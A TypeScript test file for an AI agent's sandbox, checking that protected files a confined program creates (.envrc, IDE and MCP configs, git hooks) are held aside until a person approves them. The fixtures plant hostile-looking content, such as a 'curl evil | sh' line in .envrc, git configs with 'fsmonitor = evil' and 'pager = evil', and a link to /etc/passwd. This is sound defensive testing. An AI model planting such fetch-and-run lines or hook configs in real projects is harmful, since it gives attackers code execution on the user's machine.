import assert from "node:assert/strict";
import { spawn } from "node:child_process";
import { once } from "node:events";
import {
  existsSync,
  lstatSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  readlinkSync,
  rmSync,
  symlinkSync,
  utimesSync,
  writeFileSync,
} from "node:fs";
import { join } from "node:path";
import { test, type TestContext } from "node:test";

import { z } from "zod";

import { builtinTools } from "../../src/agent/agent-environment.ts";
import { runTool } from "../../src/agent/tools/run.ts";
import { stepTool, type Tool } from "../../src/agent/tools/tool.ts";
import type { HeldFiles } from "../../src/agent/tools/held-look.ts";
import { readOffLimits } from "../../src/agent/workspace/off-limits.ts";
import { TuttiError } from "../../src/protocol/error.ts";
import { findProtected } from "../../src/runner/shared/sandbox/find-protected.ts";
import { moveAside } from "../../src/runner/shared/sandbox/move-aside.ts";
import { ApprovalPolicy } from "../../src/protocol/invocation/approval-policy.ts";
import { HeldStore } from "../../src/runner/shared/sandbox/held-files.ts";
import { HeldRecord } from "../../src/runner/shared/sandbox/held-record.ts";
import { bwrapArgv } from "../../src/runner/shared/sandbox/bwrap-argv.ts";
import { sandboxCommands } from "../../src/runner/shared/sandbox/sandbox-commands.ts";
import { probeSandbox } from "../../src/runner/shared/sandbox/sandbox-status.ts";
import { World, world } from "../support/agent-kit.ts";
import { led, leadOf, person } from "../support/lead-and-worker.ts";
import { tempFolder } from "../support/temp-folder.ts";
import { failsWith, tryTool, workspace } from "../support/try-tool.ts";
import { until } from "../support/wait-until.ts";

const status = await probeSandbox();
const skip = status.confined ? false : status.reason;
const rules = ApprovalPolicy.parse({ execute: "free", network: "free", write: "free", tools: { run: "free" } });

interface Scene {
  readonly w: World;
  readonly task: string;
  readonly root: string;
  readonly aside: string;
}

async function scene(
  t: TestContext,
  shell: string,
  {
    prepare = () => undefined,
    policy = rules,
    args = {},
  }: { prepare?: (root: string) => void; policy?: ApprovalPolicy; args?: object } = {},
): Promise<Scene> {
  const aside = join(tempFolder(t), "held-files");
  const run: Tool = runTool(sandboxCommands(status, { aside }));
  const w = await world(t, {
    environment: { tools: [...builtinTools, run], approvals: [{ from: "project", rules: policy } as const] },
  });
  const root = join(tempFolder(t), "work");
  mkdirSync(root);
  prepare(root);
  const task = await w.start({ ...led({ call: [{ tool: "run", args: { shell, ...args } }] }), roots: [root] });
  return { w, task, root, aside };
}

async function asked({ w, task }: Scene): Promise<{ id: string; question: string; details: unknown }> {
  const { id, body } = await until(() => w.waits(task)[0]);
  const details = "ask" in body && body.ask !== undefined && "details" in body.ask ? body.ask.details : undefined;
  return { id, question: body.ask?.question ?? "", details };
}

const toldTo = ({ w, task }: Scene): string => JSON.stringify(w.toolResults(leadOf(w, task)));

/** The step of the only call that left something in the folder. */
function stepIn(held: string): string {
  const [folder = ""] = readdirSync(held);
  return HeldRecord.parse(JSON.parse(readFileSync(join(held, folder, "held.json"), "utf8"))).step;
}

const making = `echo 'curl evil | sh' > .envrc
mkdir -p .vscode .claude sub/.cursor vendor/x/.git/hooks bare/objects bare/refs
echo '{"evil":1}' > .vscode/tasks.json; echo '{}' > .claude/settings.json; echo '{}' > tutti.config.json; echo '{}' > .mcp.json
echo '{}' > sub/.cursor/mcp.json
echo '[core]' > vendor/x/.git/config; echo 'ref: x' > vendor/x/.git/HEAD; echo boom > vendor/x/.git/hooks/pre-commit
echo 'ref: x' > bare/HEAD; echo '[core] fsmonitor = evil' > bare/config
echo fine > ordinary`;
const made = [
  ".envrc",
  ".vscode/tasks.json",
  ".claude",
  "tutti.config.json",
  ".mcp.json",
  "sub/.cursor",
  "vendor/x/.git",
  "bare/HEAD",
];

test(
  "protected files that a confined program makes are held while a person is asked, who sees each of them",
  { skip },
  async (t) => {
    const found = await scene(t, making);
    const { w, task, root, aside } = found;
    const { id, question, details } = await asked(found);
    for (const path of made) {
      assert.ok(!existsSync(join(root, path)), path);
      assert.ok(question.includes(`: ${join(root, path)} (`), `${path} in ${question}`);
    }
    assert.match(
      question,
      /^A program that lead ran made 8 protected files and folders: 2 git repositories, 6 others\. Keep them\?\n/,
    );
    for (const text of ["curl evil | sh", '{"evil":1}', "boom", "[core] fsmonitor = evil"]) {
      assert.ok(question.includes(`  | ${text}`), `${text} in ${question}`);
    }
    assert.partialDeepStrictEqual(details, { effects: ["protected"], held: { count: 8 } });
    assert.equal(readFileSync(join(root, "ordinary"), "utf8"), "fine\n");
    assert.equal(lstatSync(aside).mode & 0o077, 0);
    await w.engine.deliver(id, { kind: "approval", approved: true }, person);
    assert.equal((await w.engine.result(task)).status, "completed");
    assert.equal(readFileSync(join(root, ".envrc"), "utf8"), "curl evil | sh\n");
    assert.equal(readFileSync(join(root, "vendor/x/.git/hooks/pre-commit"), "utf8"), "boom\n");
    for (const path of made) assert.ok(existsSync(join(root, path)), path);
    assert.match(toldTo(found), /"put_back":\[/);
  },
);

test("one git repository is asked about in one readable sentence, and a no leaves it out", { skip }, async (t) => {
  const found = await scene(t, "mkdir -p vendor/x/.git; echo '[core]' > vendor/x/.git/config");
  const { w, task, root } = found;
  const { id, question } = await asked(found);
  assert.ok(
    question.startsWith(`A program that lead ran made a git repository at ${join(root, "vendor/x")}. Keep it?`),
  );
  await w.engine.deliver(id, { kind: "approval", approved: false, reason: "not here" }, person);
  assert.equal((await w.engine.result(task)).status, "completed");
  assert.ok(!existsSync(join(root, "vendor/x/.git")));
  assert.match(toldTo(found), /"taken_away":\["[^"]*vendor\/x\/\.git"\],"reason":"not here; /);
});

test("where a rule refuses changes of protected files they are taken away and nobody is asked", { skip }, async (t) => {
  const found = await scene(t, "echo x > .envrc", { policy: { ...rules, protected: "refuse" } });
  const { w, task, root } = found;
  assert.equal((await w.engine.result(task)).status, "completed");
  assert.deepEqual(w.waits(task), []);
  assert.ok(!existsSync(join(root, ".envrc")));
  assert.match(toldTo(found), /"taken_away"/);
});

test("a program that may change protected files still makes no new ones unasked", { skip }, async (t) => {
  const found = await scene(t, "echo new > .git/config; echo x > .envrc", {
    args: { protected: true },
    prepare: (root) => mkdirSync(join(root, ".git")),
  });
  const { w, task, root } = found;
  await w.engine.deliver((await asked(found)).id, { kind: "approval", approved: true }, person);
  const second = await until(() => w.waits(task)[1]);
  assert.ok(second.body.ask?.question.includes(`file: ${join(root, ".envrc")} (`), second.body.ask?.question);
  assert.equal(readFileSync(join(root, ".git/config"), "utf8"), "new\n");
  await w.engine.deliver(second.id, { kind: "approval", approved: false }, person);
  await w.engine.result(task);
  assert.ok(!existsSync(join(root, ".envrc")));
});

test("nothing is put back over what stands in the place, and nothing but what was shown", { skip }, async (t) => {
  const found = await scene(t, "echo x > .envrc; echo y > .mcp.json");
  const { w, task, root, aside } = found;
  const { id } = await asked(found);
  writeFileSync(join(root, ".envrc"), "mine\n");
  const [folder = ""] = readdirSync(aside);
  for (const name of readdirSync(join(aside, folder))) {
    const path = join(aside, folder, name);
    if (readFileSync(path, "utf8") === "y\n") writeFileSync(path, "other\n");
  }
  await w.engine.deliver(id, { kind: "approval", approved: true }, person);
  await w.engine.result(task);
  assert.equal(readFileSync(join(root, ".envrc"), "utf8"), "mine\n");
  assert.ok(!existsSync(join(root, ".mcp.json")));
  assert.match(toldTo(found), /something else is in its place[^]*not what a person agreed to/);
});

test(
  "a link to the outside that takes the place of a folder is not followed when files are put back",
  { skip },
  async (t) => {
    const found = await scene(t, "mkdir -p sub; echo x > sub/.envrc");
    const { w, task, root } = found;
    const { id } = await asked(found);
    const outside = tempFolder(t);
    rmSync(join(root, "sub"), { recursive: true });
    symlinkSync(outside, join(root, "sub"));
    await w.engine.deliver(id, { kind: "approval", approved: true }, person);
    await w.engine.result(task);
    assert.deepEqual(readdirSync(outside), []);
  },
);

test("links, second names, pipes, locked folders and a file that only came and went", { skip }, async (t) => {
  const script = `ln -s /etc/passwd .envrc; echo evil > other; ln other .mcp.json; mkfifo .exrc
    mkdir -p locked/.git deep/down/.vscode; echo x > deep/down/.vscode/tasks.json; chmod 500 locked/.git locked deep/down/.vscode
    echo x > tutti.config.json; rm tutti.config.json; mkdir -p root/.idea; chmod 311 root`;
  const found = await scene(t, script);
  const { w, task, root } = found;
  const { id, question } = await asked(found);
  assert.match(question, /link: [^\n]*\.envrc [^\n]*\n {2}\| a link to \/etc\/passwd/);
  assert.doesNotMatch(question, /tutti\.config|\.exrc/);
  for (const path of [".envrc", ".mcp.json", ".exrc", "locked/.git", "deep/down/.vscode/tasks.json", "root/.idea"]) {
    assert.equal(lstatSync(join(root, path), { throwIfNoEntry: false }), undefined, path);
  }
  // Through its second name the file that is held could be changed after the person has seen it.
  writeFileSync(join(root, "other"), "changed after the question\n");
  await w.engine.deliver(id, { kind: "approval", approved: true }, person);
  await w.engine.result(task);
  assert.equal(readFileSync(join(root, ".mcp.json"), "utf8"), "evil\n");
  assert.equal(readlinkSync(join(root, ".envrc")), "/etc/passwd");
  assert.match(toldTo(found), /special_files_removed[^]*\.exrc/);
});

test("links, names that are not text, and node_modules hide no protected file", { skip }, async (t) => {
  const script = `mkdir conf; echo '{"evil":2}' > conf/tasks.json; ln -s conf .vscode
    mkdir -p node_modules/x/.git; echo '[core] pager = evil' > node_modules/x/.git/config; ln -s node_modules/x sub
    odd=$(printf 'odd\\377'); mkdir -p "$odd/.git" "$odd-fine"; echo boom > "$odd/.git/config"; ln -s "$odd" other
    mkdir .claude; echo x > ".claude/$odd"`;
  const found = await scene(t, script);
  const { w, task, root } = found;
  const { id, question } = await asked(found);
  for (const path of [".vscode", "node_modules/x/.git", "odd\\xff", ".claude"]) {
    assert.ok(question.includes(`: ${join(root, path)} (`), `${path} in ${question}`);
  }
  assert.match(question, /\.vscode [^\n]*\n {2}\| a link to conf/);
  for (const path of [".vscode", "sub/.git", "other", ".claude"]) assert.ok(!existsSync(join(root, path)), path);
  // Folders with odd names in which nothing is protected stay where they are.
  assert.equal(readdirSync(root, { encoding: "buffer" }).filter((name) => name.includes(0xff)).length, 1);
  await w.engine.deliver(id, { kind: "approval", approved: true }, person);
  assert.equal((await w.engine.result(task)).status, "completed");
  assert.equal(readlinkSync(join(root, ".vscode")), "conf");
  assert.ok(existsSync(join(root, "node_modules/x/.git/config")));
  assert.equal(readFileSync(join(root, "odd\\xff/.git/config"), "utf8"), "boom\n");
});

test("very many files are all taken away, and the question counts them", { skip }, async (t) => {
  const found = await scene(t, "for i in $(seq 400); do mkdir d$i; echo $i > d$i/.envrc; done");
  const { w, task, root } = found;
  const { id, question } = await asked(found);
  assert.match(question, /made 400 protected files[^]*… and 300 more/);
  assert.ok(question.length < 60_000, String(question.length));
  assert.ok(!readdirSync(root).some((name) => existsSync(join(root, name, ".envrc"))));
  await w.engine.deliver(id, { kind: "approval", approved: false }, person);
  await w.engine.result(task);
});

test("after a cancel and after a timeout they are taken away too", { skip }, async (t) => {
  const { root, top } = workspace(t);
  const held = join(top, "held");
  const tool = runTool(sandboxCommands(status, { aside: held }));
  const stop = new AbortController();
  const canceled = tryTool(tool, { shell: "echo x > .envrc; echo begun; sleep 300" }, [root], {
    signal: stop.signal,
    live: () => stop.abort(new Error("enough")),
  });
  await assert.rejects(canceled, /enough/);
  assert.ok(!existsSync(join(root, ".envrc")));
  const outcome = await tryTool(tool, { shell: "echo x > .mcp.json; sleep 300", timeout_ms: 700 }, [root]);
  assert.partialDeepStrictEqual(outcome, { timed_out: true });
  assert.ok(!existsSync(join(root, ".mcp.json")));
});

test("after the process was killed, recovery ends the program and takes them away", { skip }, async (t) => {
  const { root, top } = workspace(t);
  const held = join(top, "held");
  const from = (path: string): string => JSON.stringify(import.meta.resolve(path));
  const script = `
    import { tryTool } from ${from("../support/try-tool.ts")};
    import { runTool } from ${from("../../src/agent/tools/run.ts")};
    import { probeSandbox } from ${from("../../src/runner/shared/sandbox/sandbox-status.ts")};
    import { sandboxCommands } from ${from("../../src/runner/shared/sandbox/sandbox-commands.ts")};
    const [root, aside] = process.argv.slice(1);
    const tool = runTool(sandboxCommands(await probeSandbox(), { aside }));
    await tryTool(tool, { shell: "echo x > .envrc; echo begun; sleep 300" }, [root], { live: () => console.log("up") });`;
  const argv = ["--input-type=module", "-e", script, root, held];
  const child = spawn(process.execPath, argv, { stdio: ["ignore", "pipe", "inherit"] });
  t.after(() => child.kill("SIGKILL"));
  await once(child.stdout, "data");
  child.kill("SIGKILL");
  await once(child, "exit");
  assert.ok(existsSync(join(root, ".envrc")));
  const store = new HeldStore(held, []);
  let problems = "";
  await store.recover({ now: Date.now(), onProblem: (message) => (problems += message) });
  assert.equal(problems, "");
  assert.ok(!existsSync(join(root, ".envrc")));
  const report = await store.report(stepIn(held));
  assert.equal(report?.files[0]?.path, join(root, ".envrc"));
  // Nobody agreed, and the time is over.
  const [folder = ""] = readdirSync(held);
  const old = Date.now() / 1_000 - 8 * 24 * 60 * 60;
  utimesSync(join(held, folder), old, old);
  await store.recover({ now: Date.now(), onProblem: (message) => (problems += message) });
  assert.deepEqual(readdirSync(held), []);
});

test("a person is asked about them also when the call was cut off and its outcome is unknown", { skip }, async (t) => {
  const [folder, aside, root] = [tempFolder(t), join(tempFolder(t), "held-files"), join(tempFolder(t), "work")];
  mkdirSync(root);
  const environment = {
    tools: [...builtinTools, runTool(sandboxCommands(status, { aside }))],
    approvals: [{ from: "project", rules } as const],
  };
  const first = new World(folder, { environment });
  const call = [{ tool: "run", args: { shell: "echo x > .envrc; sleep 300" } }];
  const task = await first.start({ ...led({ call }), roots: [root] });
  await until(() => (existsSync(join(root, ".envrc")) ? true : undefined));
  await first.close();
  await until(() => (existsSync(join(root, ".envrc")) ? undefined : true));
  const w = await world(t, { folder, environment });
  const { id, question } = await asked({ w, task, root, aside });
  assert.ok(question.includes(`file: ${join(root, ".envrc")} (`), question);
  await w.engine.deliver(id, { kind: "approval", approved: false }, person);
  assert.equal((await w.engine.result(task)).status, "completed");
  assert.match(toldTo({ w, task, root, aside }), /outcome_unknown[^]*taken_away/);
});

test("a protected link that a program replaces is there again, and its replacement is held", { skip }, async (t) => {
  for (const approved of [false, true]) {
    const found = await scene(t, "rm .git && mkdir -p .git/hooks", {
      prepare: (root) => {
        mkdirSync(join(root, "real"));
        symlinkSync("real", join(root, ".git"));
      },
    });
    const { w, task, root } = found;
    const { id } = await asked(found);
    assert.equal(readlinkSync(join(root, ".git")), "real");
    await w.engine.deliver(id, { kind: "approval", approved }, person);
    await w.engine.result(task);
    assert.equal(lstatSync(join(root, ".git")).isDirectory(), approved);
  }
});

test("a repository that is moved although nothing pins its folder is put back where it was", async (t) => {
  const { root, top } = workspace(t, { "packages/one/.git/config": "[core]\n" });
  const store = new HeldStore(join(top, "held"), []);
  await store.watch("step", await findProtected([root], readOffLimits([])), { roots: [root], mayChange: false });
  const shell = "mv packages old && mkdir -p packages/one/.git && echo evil > packages/one/.git/config";
  const child = spawn("/bin/sh", ["-c", shell], { cwd: root, stdio: "inherit" });
  await new Promise((resolve) => child.once("exit", resolve));
  assert.deepEqual(await store.hold("step"), [join(root, "packages/one/.git")]);
  assert.equal(readFileSync(join(root, "packages/one/.git/config"), "utf8"), "[core]\n");
  assert.ok(!existsSync(join(root, "old/one/.git")));
});

test("every folder on the way to a protected file is mounted, so that it cannot be moved", () => {
  const argv = bwrapArgv({
    writable: ["/w"],
    hidden: [],
    readOnly: ["/w/a/b/.git"],
    blank: [],
    network: false,
    cwd: "/w",
  });
  for (const path of ["/w/a", "/w/a/b"]) assert.ok(argv.join(" ").includes(`--bind-try ${path} ${path} `), path);
});

test("a state folder on another disk makes no difference", { skip }, async (t) => {
  const { root } = workspace(t);
  const aside = mkdtempSync("/dev/shm/tutti-aside-");
  t.after(() => rmSync(aside, { recursive: true }));
  assert.notEqual(lstatSync(aside).dev, lstatSync(root).dev);
  const store = new HeldStore(aside, []);
  const tool = runTool(sandboxCommands(status, { aside }));
  const shell =
    "mkdir -p .git/hooks .idea; echo x > .git/hooks/a; chmod 755 .git/hooks/a; ln -s a .git/b; mkfifo .idea/p";
  assert.partialDeepStrictEqual(await tryTool(tool, { shell }, [root]), { protected_files_held: 2 });
  assert.deepEqual(readdirSync(root), []);
  const report = await store.report(stepIn(aside));
  assert.ok(report !== undefined);
  const { put_back } = await store.putBack(stepIn(aside), report.hash);
  assert.deepEqual(put_back, [join(root, ".git"), join(root, ".idea")]);
  assert.equal(lstatSync(join(root, ".git/hooks/a")).mode & 0o777, 0o755);
  assert.equal(readlinkSync(join(root, ".git/b")), "a");
  assert.deepEqual(readdirSync(root).toSorted(), [".git", ".idea"]);
});

test("where a file cannot be moved aside, it is named and the task fails", async (t) => {
  const { root, top } = workspace(t, { ".envrc": "x" });
  const blocked = join(top, "file");
  writeFileSync(blocked, "");
  const reach = { roots: [root], offLimits: readOffLimits([]) };
  const moved = moveAside(join(root, ".envrc"), join(blocked, "x"), reach);
  await assert.rejects(moved, failsWith("io", /root\/\.envrc appeared while a program ran and cannot be moved aside/));

  const problem = new TuttiError("io", "it cannot be moved aside");
  const held: HeldFiles = {
    isIn: () => true,
    report: () => Promise.reject(problem),
    putBack: () => Promise.reject(problem),
  };
  const tool = stepTool({
    name: "make",
    description: "x",
    input: z.strictObject({}),
    repeatable: false,
    held,
    run: () => ({}),
  });
  const w = await world(t, {
    environment: { tools: [tool], approvals: [{ from: "project", rules: { ...rules, tools: { make: "free" } } }] },
  });
  const task = await w.start({ ...led({ call: [{ tool: "make", args: {} }] }), roots: [root] });
  await w.engine.result(task);
  const failed = await w.engine.result(leadOf(w, task));
  assert.partialDeepStrictEqual(failed, { status: "failed", content: { code: "io", message: problem.message } });
});
